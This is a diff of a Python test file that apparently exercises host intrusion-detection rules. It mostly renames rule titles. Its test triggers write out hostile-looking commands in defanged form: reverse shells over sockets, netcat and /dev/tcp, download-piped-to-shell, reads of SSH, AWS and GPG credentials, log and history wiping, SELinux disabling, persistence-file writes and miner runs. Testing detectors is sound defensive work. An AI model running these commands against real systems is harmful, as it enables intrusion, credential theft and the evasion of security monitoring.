@@ -62,49 +62,47 @@ _CONNECTED: Final = (
     "other, _ = server.accept(); other.sendall(b'exit\\n')\n"
 )
 _OUT: Final = "import socket; socket.create_connection(('203.0.113.1', 443))"
-CHILD: Final = (
-    "import ctypes, os, signal, time\nlibc, pid = ctypes.CDLL(None), os.fork()\nif not pid: time.sleep(60)\n"
-)
+CHILD: Final = "import ctypes, os, signal, time\nlibc, pid = ctypes.CDLL(None), os.fork()\nif not pid: time.sleep(60)\n"
 
 HOST: Final = (
     Trigger(
-        "Shell with a connection as its terminal",
+        "Shell with a network connection as its terminal",
         re.compile("^(da)?sh$"),
         _python(_CONNECTED + "for n in 0, 1, 2: os.dup2(end.fileno(), n)\nos.execv('/bin/sh', ['sh'])"),
         {"proc.stdin.name": re.compile("127.0.0.1")},
     ),
     Trigger(
-        "Connection made the standard input or output of a program",
+        "Network connection made a program's standard input or output",
         "python3",
         _python(_CONNECTED + "os.dup2(end.fileno(), 0)"),
         {"evt.type": re.compile("dup"), "fd.num": 0},
     ),
     Trigger(
-        "Program with a connection as its input and output",
+        "Program with a network connection as its input and output",
         "true",
         _python(_CONNECTED + "for n in 0, 1: os.dup2(end.fileno(), n)\nos.execv('/bin/true', ['true'])"),
         {"proc.stdin.name": re.compile("127.0.0.1")},
     ),
     Trigger(
-        "Shell without a script driven through pipes",
+        "Interactive shell driven through pipes",
         re.compile("^(da)?sh$"),
         "mkfifo $TMP/fed; echo exit > $TMP/fed & sh < $TMP/fed | cat; rm $TMP/fed",
         {"proc.stdin.name": re.compile("/fed$")},
     ),
-    Trigger("Code added to a program by its environment", "bash", "BASH_ENV=/tmp/mozu-none bash -c true"),
+    Trigger("Code injected into a program by its environment", "bash", "BASH_ENV=/tmp/mozu-none bash -c true"),
     Trigger(
-        "Code added to a program by its environment",
+        "Code injected into a program by its environment",
         "true",
         "LD_LIBRARY_PATH=/opt:/tmp/mozu-none /bin/true",
         {"proc.env[LD_LIBRARY_PATH]": "/opt:/tmp/mozu-none"},
     ),
     Trigger(
-        "Protection of the kernel changed",
+        "Kernel protection changed",
         re.compile("^(da)?sh$"),
         ": >> /proc/sys/kernel/randomize_va_space",
         {"fd.name": "/proc/sys/kernel/randomize_va_space"},
     ),
-    Trigger("Program named as a thread of the kernel", "kworker", "cp /bin/true $TMP/kworker; $TMP/kworker"),
+    Trigger("Program named like a kernel thread", "kworker", "cp /bin/true $TMP/kworker; $TMP/kworker"),
     Trigger(
         "Log removed or emptied",
         "python3",
@@ -112,7 +110,7 @@ HOST: Final = (
         {"evt.type": "syslog"},
     ),
     Trigger(
-        "Capability given to a file",
+        "Capability set on a file",
         "python3",
         _python(
             "import os, struct\nopen('$TMP/bound', 'w').close()\n"
@@ -121,13 +119,13 @@ HOST: Final = (
         {"evt.type": "setxattr", "evt.rawarg.path": re.compile("/bound$")},
     ),
     Trigger(
-        "Set-user-id bit set",
+        "Set-user-ID bit set",
         "python3",
         _python("import os\nos.mknod('$TMP/owned', 0o104755)"),
         {"evt.type": re.compile("mknod"), "evt.rawarg.path": re.compile("/owned$")},
     ),
     Trigger(
-        "History of commands removed",
+        "Command history removed",
         "bash",
         "HISTFILE=/dev/null bash -c true",
         {"proc.env[HISTFILE]": "/dev/null"},
@@ -167,45 +165,45 @@ HOST: Final = (
         ),
     ),
     Trigger(
-        "Memory of a process opened as a file",
+        "Process memory opened as a file",
         "dd",
         "dd if=/proc/$$$$/mem of=/dev/null count=0",
         {"fd.name": re.compile("^/proc/[0-9]+/mem$")},
     ),
-    _written("Library put in front of all programs", "/etc/ld.so.preload"),
-    _linked("Library put in front of all programs", "/etc/ld.so.preload"),
+    _written("Library preloaded into all programs", "/etc/ld.so.preload"),
+    _linked("Library preloaded into all programs", "/etc/ld.so.preload"),
     Trigger("Editor wrote below root's home", "vim", ("$BIN/vim", "-c", in_root("open('/root/x', 'w')"))),
-    Trigger("Library preloaded from a public place", "true", "LD_PRELOAD=/tmp/none.so /bin/true"),
+    Trigger("Library preloaded from a world-writable directory", "true", "LD_PRELOAD=/tmp/none.so /bin/true"),
     Trigger(
         "Download piped into a shell",
         re.compile("^(da)?sh$"),
         ("sh", "-c", "curl -s http://127.0.0.1:9/x | sh"),
     ),
     Trigger("Decoded text piped into a shell", re.compile("^(da)?sh$"), ("sh", "-c", "echo Og== | base64 -d | sh")),
-    _named("Set-user-id program started as an exploit starts it", "pkexec"),
+    _named("Set-user-ID program started with an exploit's arguments", "pkexec"),
     Trigger(
-        "Faults of memory handled by an ordinary user",
+        "userfaultfd used by an ordinary user",
         "python3",
         _python("import ctypes, os\nos.setuid(65534)\nctypes.CDLL(None).syscall(323, 1)"),
         {"user.uid": 65534},
     ),
-    _written("Timed job planted", "/etc/cron.d/x"),
-    _moved("Service or timer of systemd planted", "/etc/systemd/system/x.service"),
-    _written("Start file of a shell changed", "/etc/profile.d/x.sh"),
-    _written("Start file of all shells changed", "/etc/profile"),
-    _moved("Program started with the desktop planted", "/etc/xdg/autostart/x.desktop"),
-    _written("Start of the machine changed", "/etc/udev/rules.d/x.rules"),
-    _moved("Rules of sudo changed", "/etc/sudoers.d/x"),
+    _written("Scheduled job changed", "/etc/cron.d/x"),
+    _moved("systemd service or timer changed", "/etc/systemd/system/x.service"),
+    _written("Shell start-up file changed", "/etc/profile.d/x.sh"),
+    _written("Start-up file of all shells changed", "/etc/profile"),
+    _moved("Desktop autostart entry changed", "/etc/xdg/autostart/x.desktop"),
+    _written("Boot configuration changed", "/etc/udev/rules.d/x.rules"),
+    _moved("sudo rules changed", "/etc/sudoers.d/x"),
     _linked("Login modules changed", "/etc/pam.d/x"),
-    _written("Settings of the SSH server changed", "/etc/ssh/sshd_config"),
-    _written("Database of users written by an unexpected program", "/etc/passwd"),
-    _written("Program of the system written", "/boot/x"),
-    _written("Hook of a repository planted", "/boot/r/.git/hooks/post-commit"),
-    _moved("Start hook of Python planted", "/boot/site-packages/x.pth"),
-    _written("File below etc written by an unexpected program", "/etc/x.conf"),
-    _written("SSH login key planted", "/boot/.ssh/authorized_keys"),
+    _written("SSH server configuration changed", "/etc/ssh/sshd_config"),
+    _written("User database written by an unexpected program", "/etc/passwd"),
+    _written("System program written", "/boot/x"),
+    _written("Git hook changed", "/boot/r/.git/hooks/post-commit"),
+    _moved("Python start-up hook changed", "/boot/site-packages/x.pth"),
+    _written("File below /etc written by an unexpected program", "/etc/x.conf"),
+    _written("SSH login key added", "/boot/.ssh/authorized_keys"),
     Trigger(
-        "Program loaded into the kernel by an unexpected program",
+        "BPF program loaded by an unexpected program",
         "python3",
         _python(
             "import ctypes, struct\n"
@@ -227,35 +225,35 @@ HOST: Final = (
         ),
         {"evt.type": "ftruncate", "fd.name": "/var/log/e.log"},
     ),
-    Trigger("History of commands removed", "rm", "echo > $TMP/.bash_history; rm $TMP/.bash_history"),
-    _named("Guard of the machine stopped", "setenforce 0"),
-    _written("Configuration of a guard changed", "/etc/audit/rules.d/x.rules"),
-    Trigger("Set-user-id bit set", "chmod", "cp /bin/true $TMP/s; chmod u+s $TMP/s"),
-    Trigger("Set-group-id bit set", "chmod", "cp /bin/true $TMP/g; chmod g+s $TMP/g"),
+    Trigger("Command history removed", "rm", "echo > $TMP/.bash_history; rm $TMP/.bash_history"),
+    _named("Security service stopped", "setenforce 0"),
+    _written("Security service configuration changed", "/etc/audit/rules.d/x.rules"),
+    Trigger("Set-user-ID bit set", "chmod", "cp /bin/true $TMP/s; chmod u+s $TMP/s"),
+    Trigger("Set-group-ID bit set", "chmod", "cp /bin/true $TMP/g; chmod g+s $TMP/g"),
     Trigger(
-        "Set-user-id bit set",
+        "Set-user-ID bit set",
         "python3",
         "cp /bin/true $TMP/f; $PYTHON -c \"import ctypes; ctypes.CDLL(None).syscall(452, -100, b'$TMP/f', 0o4755, 0)\"",
         {"evt.type": "fchmodat2"},
         call="fchmodat2",
     ),
-    _named("Capability given to a file", "setcap cap_net_raw+ep x"),
-    _named("File made immutable or freed", "chattr +i x"),
+    _named("Capability set on a file", "setcap cap_net_raw+ep x"),
+    _named("Immutable attribute of a file changed", "chattr +i x"),
     _named("Kernel module loaded by hand", "insmod x.ko"),
-    Trigger("Time of a file forged", "touch", "touch -r /bin/true $TMP/x"),
+    Trigger("File timestamp forged", "touch", "touch -r /bin/true $TMP/x"),
     Trigger(
         "Process hidden behind a mount",
         "mount",
         ("unshare", "--mount", "sh", "-c", "mkdir -p $TMP/empty; mount --bind $TMP/empty /proc/1"),
     ),
-    _named("Tool of connections told to run a program", "nc -e /bin/sh 127.0.0.1 9"),
+    _named("Network tool started with a program to run", "nc -e /bin/sh 127.0.0.1 9"),
     _named("Tunnel through SSH", "ssh -R 1:127.0.0.1:1 x.example"),
-    _named("Tunnel in names or pings", "iodine x.example"),
+    _named("Tunnel over DNS or ICMP", "iodine x.example"),
     _named("Network scanned", "nmap 127.0.0.1"),
-    _named("File sent out by a transfer tool", "curl -T x http://127.0.0.1:9/"),
+    _named("File uploaded by a transfer tool", "curl -T x http://127.0.0.1:9/"),
     _named("Files copied to a storage service", "rclone copy x remote:x"),
-    _named("Miner of coins run", "xmrig"),
-    Trigger("Files renamed as by ransomware", "mv", "echo > $TMP/a; mv $TMP/a $TMP/a.locked"),
+    _named("Cryptocurrency miner run", "xmrig"),
+    Trigger("Files renamed as ransomware does", "mv", "echo > $TMP/a; mv $TMP/a $TMP/a.locked"),
     _named("Disk overwritten or file system removed", "shred /dev/none"),
     _named("File overwritten before it was removed", "shred -u x"),
     Trigger(
@@ -273,19 +271,19 @@ HOST: Final = (
         "finit_module",
     ),
     Trigger(
-        "Another kernel loaded",
+        "New kernel loaded by kexec",
         "python3",
         _python("import ctypes\nassert ctypes.CDLL(None).syscall(320, -1, -1, 0, 0, 1 << 31)"),
         {"evt.type": "kexec_file_load"},
         "kexec_file_load",
     ),
     Trigger(
-        "Packets of the network read raw",
+        "Raw network packets read",
         "python3",
         _python("import socket\nsocket.socket(socket.AF_PACKET, socket.SOCK_RAW)"),
     ),
     Trigger(
-        "Shell or netcat waits for connections",
+        "Shell or netcat listens for connections",
         "nc",
         "ln -sf $PYTHON $TMP/nc; $TMP/nc -c \"import socket; socket.create_server(('127.0.0.1', 0))\"",
     ),
@@ -295,22 +293,22 @@ HOST: Final = (
         "cat",
         "mkdir -p $TMP/.aws; echo > $TMP/.aws/credentials; cat $TMP/.aws/credentials",
     ),
-    Trigger("Whole tree with secrets read", "tar", "mkdir -p $TMP/etc; tar cf /dev/null -C $TMP etc"),
+    Trigger("Directory tree with secrets read", "tar", "mkdir -p $TMP/etc; tar cf /dev/null -C $TMP etc"),
     Trigger("Secrets searched for", "find", "find $TMP -name id_rsa"),
     Trigger(
-        "Metadata service of a cloud asked by an unexpected program",
+        "Cloud metadata service requested by an unexpected program",
         "python3",
         _python(
             "import socket\nend = socket.socket()\nend.setblocking(False)\nend.connect_ex(('169.254.169.254', 80))"
         ),
     ),
     Trigger(
-        "Credentials of a browser or key ring read",
+        "Browser or key ring credentials read",
         "cat",
         "d=$TMP/.gnupg/private-keys-v1.d; mkdir -p $$d; echo > $$d/k; cat $$d/k",
     ),
     Trigger(
-        "Private key of the machine read by an unexpected program",
+        "Host private key read by an unexpected program",
         "cat",
         elsewhere("mkdir -p /etc/ssl/private; echo > /etc/ssl/private/x; cat /etc/ssl/private/x"),
     ),
@@ -320,17 +318,17 @@ HOST: Final = (
         "mkdir -p $TMP/.ssh; echo > $TMP/.ssh/id_rsa; cat $TMP/.ssh/id_rsa",
     ),
     Trigger("Environment of another process read", "cat", "cat /proc/$$$$/environ"),
-    Trigger("History of commands read by a tool", "cat", "echo > $TMP/.zsh_history; cat $TMP/.zsh_history"),
+    Trigger("Command history read by a tool", "cat", "echo > $TMP/.zsh_history; cat $TMP/.zsh_history"),
     _named("User added", "useradd x"),
-    _named("User made an administrator", "usermod -aG sudo x"),
+    _named("Administrator rights given to a user", "usermod -aG sudo x"),
     Trigger(
-        "Kernel program handler changed on the host",
+        "Kernel helper program set on the host",
         re.compile("^(da)?sh$"),
         'v=$$(cat /proc/sys/kernel/core_pattern); echo "$$v" > /proc/sys/kernel/core_pattern',
     ),
     Trigger("Shell started by a network server", "dash", ("$BIN/nginx", "spawn", "$BIN/dash", "-c", "true")),
     Trigger(
-        "Shell without a script started by an interpreter",
+        "Interactive shell started by an interpreter",
         re.compile("^(da)?sh$"),
         _python("import subprocess\nsubprocess.run(['sh'])"),
     ),
@@ -346,38 +344,43 @@ HOST: Final = (
         "echo exit > /tmp/mozu-test-y; sh /tmp/mozu-test-y; rm /tmp/mozu-test-y",
     ),
     Trigger(
-        "Code without a name opened to run",
+        "Deleted or nameless code opened",
         "python3",
         _python(
-            "import os, sys\nfd = os.memfd_create('x', 0)\n"
-            "os.execv(sys.executable, ['python3', f'/proc/self/fd/{fd}'])"
+            "import os, sys\nfd = os.memfd_create('x', 0)\nos.execv(sys.executable, ['python3', f'/proc/self/fd/{fd}'])"
         ),
         {"fd.realpath": re.compile("^/memfd:x")},
     ),
     Trigger(
-        "Hidden directory in a public place entered",
+        "Hidden directory in a world-writable place entered",
         re.compile("^(da)?sh$"),
         "mkdir -p /tmp/.mozu-test; cd /tmp/.mozu-test; rmdir /tmp/.mozu-test",
     ),
     Trigger(
-        "Ring of requests made by an unexpected program",
+        "io_uring created by an unexpected program",
         "python3",
         _python("import ctypes\nassert ctypes.CDLL(None).syscall(425, 1, bytes(120)) > 0"),
     ),
-    _written("Manifest of a static pod written", "/etc/kubernetes/manifests/x.yaml"),
-    Trigger("File made below dev", "touch", "touch /dev/mozu-test; rm /dev/mozu-test", {"fd.name": "/dev/mozu-test"}),
-    Trigger("Symbolic link to secrets made", "ln", "ln -s /etc/shadow $TMP/secret", {"fs.path.target": "/etc/shadow"}),
+    _written("Static pod manifest written", "/etc/kubernetes/manifests/x.yaml"),
     Trigger(
-        "Hidden file or directory made in a public place", "mkdir", "mkdir /tmp/.mozu-test-h; rmdir /tmp/.mozu-test-h"
+        "File created below /dev", "touch", "touch /dev/mozu-test; rm /dev/mozu-test", {"fd.name": "/dev/mozu-test"}
     ),
     Trigger(
-        "Directory of the system's programs changed",
+        "Symbolic link to secrets created", "ln", "ln -s /etc/shadow $TMP/secret", {"fs.path.target": "/etc/shadow"}
+    ),
+    Trigger(
+        "Hidden file or directory created in a world-writable directory",
+        "mkdir",
+        "mkdir /tmp/.mozu-test-h; rmdir /tmp/.mozu-test-h",
+    ),
+    Trigger(
+        "Directory of system programs changed",
         "python3",
         _rooted("os.mkdir('/bin/x')"),
         {"fs.path.name": "/bin/x"},
     ),
     Trigger(
-        "Database of packages written",
+        "Package database written",
         "python3",
         _rooted("os.makedirs('/var/lib/dpkg', exist_ok=True)\nopen('/var/lib/dpkg/status', 'w')"),
         {"fd.name": "/var/lib/dpkg/status"},
@@ -388,37 +391,35 @@ HOST: Final = (
         _rooted("os.makedirs('/usr/lib', exist_ok=True)\nopen('/usr/lib/x.so', 'w')"),
         {"fd.name": "/usr/lib/x.so"},
     ),
+    Trigger("File below root's home written", "python3", _rooted("open('/root/y', 'w')"), {"fd.name": "/root/y"}),
+    Trigger("Shell start-up file read by a tool", "cat", "echo > $TMP/.zshrc; cat $TMP/.zshrc"),
     Trigger(
-        "File below root's home written", "python3", _rooted("open('/root/y', 'w')"), {"fd.name": "/root/y"}
-    ),
-    Trigger("Start file of a shell read by a tool", "cat", "echo > $TMP/.zshrc; cat $TMP/.zshrc"),
-    Trigger(
-        "Settings of SSH read by a tool", "cat", "mkdir -p $TMP/.ssh; echo > $TMP/.ssh/config; cat $TMP/.ssh/config"
+        "SSH configuration read by a tool", "cat", "mkdir -p $TMP/.ssh; echo > $TMP/.ssh/config; cat $TMP/.ssh/config"
     ),
     Trigger(
-        "Tool of the system used the network",
+        "Network used by a system tool",
         "sha1sum",
         f'ln -sf $PYTHON $TMP/sha1sum; $NET $TMP/sha1sum -c "{_OUT}"',
         {"fd.name": re.compile("->203.0.113.1:443$")},
     ),
     Trigger(
-        "Shell or netcat connected out",
+        "Outgoing connection of a shell or netcat",
         "bash",
         "$NET bash -c 'exec 3<>/dev/tcp/203.0.113.1/443'",
         {"fd.name": re.compile("->203.0.113.1:443$")},
     ),
-    Trigger("Code from the command line connected out", "python3", f'$NET $PYTHON -c "{_OUT}"'),
-    Trigger("SSH to the port of another service", "ssh", "$NET $BIN/ssh connect 203.0.113.1 443"),
+    Trigger("Outgoing connection of code from the command line", "python3", f'$NET $PYTHON -c "{_OUT}"'),
+    Trigger("SSH connection to another service's port", "ssh", "$NET $BIN/ssh connect 203.0.113.1 443"),
     Trigger("Program started by a database", "true", ("$BIN/mysqld", "spawn", "/bin/true", "x")),
-    Trigger("Terminal or login of a user of the system", "login", ("$BIN/sshd", "as", "$DAEMON", "/bin/login")),
+    Trigger("Terminal or login of a system account", "login", ("$BIN/sshd", "as", "$DAEMON", "/bin/login")),
     Trigger(
         "Attempt to become root refused",
         "python3",
         _python("import os\nos.setuid($DAEMON)\ntry: os.setuid(0)\nexcept PermissionError: pass"),
     ),
-    Trigger("Tunables of the C library set", "true", "GLIBC_TUNABLES=glibc.malloc.check=1 /bin/true"),
+    Trigger("C library tunables set", "true", "GLIBC_TUNABLES=glibc.malloc.check=1 /bin/true"),
     Trigger(
-        "Program that is not to be traced", "python3", _python("import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0)")
+        "Program that refuses to be traced", "python3", _python("import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0)")
     ),
     Trigger(
         "Namespace of another process entered on the host",
@@ -427,7 +428,7 @@ HOST: Final = (
     ),
     Trigger("Transfer tool given a proxy", "curl", "HTTP_PROXY=http://127.0.0.1:9 $BIN/curl x"),
     Trigger(
-        "Secrets shown elsewhere by a mount",
+        "Secrets mounted elsewhere",
         "mount",
         (
             "unshare",
@@ -437,9 +438,9 @@ HOST: Final = (
             "mkdir -p $TMP/lower $TMP/mounted && mount -t overlay x -o lowerdir=$TMP/lower:$BIN $TMP/mounted",
         ),
     ),
-    Trigger("Secret put under another name", "mv", "mkdir -p $TMP/.aws $TMP/aside; mv $TMP/.aws $TMP/aside"),
+    Trigger("Secret renamed or linked", "mv", "mkdir -p $TMP/.aws $TMP/aside; mv $TMP/.aws $TMP/aside"),
     Trigger(
-        "File of the system exchanged for another",
+        "System file replaced",
         "python3",
         _python(
             "import ctypes\ncall = ctypes.CDLL(None).syscall\n"
@@ -451,18 +452,18 @@ HOST: Final = (
         {"fs.path.source": "/root/a"},
     ),
     Trigger(
-        "Place of the system covered by a mount",
+        "System directory covered by a mount",
         "mount",
         ("unshare", "--mount", "sh", "-c", "echo > $TMP/over; mount --bind $TMP/over /etc/passwd"),
         {"fs.path.target": "/etc/passwd"},
     ),
     Trigger(
-        "Package manager given a command to run",
+        "Package manager started with a command to run",
         "apt-get",
         ("apt-get", "-o", "APT::Update::Pre-Invoke::=exit 1", "-o", "Dir::State::Lists=$TMP/lists", "update"),
     ),
     Trigger(
-        "Opens of files watched by an unexpected program",
+        "File opens watched by an unexpected program",
         "python3",
         _python(
             "import ctypes\ncall = ctypes.CDLL(None).syscall\n"
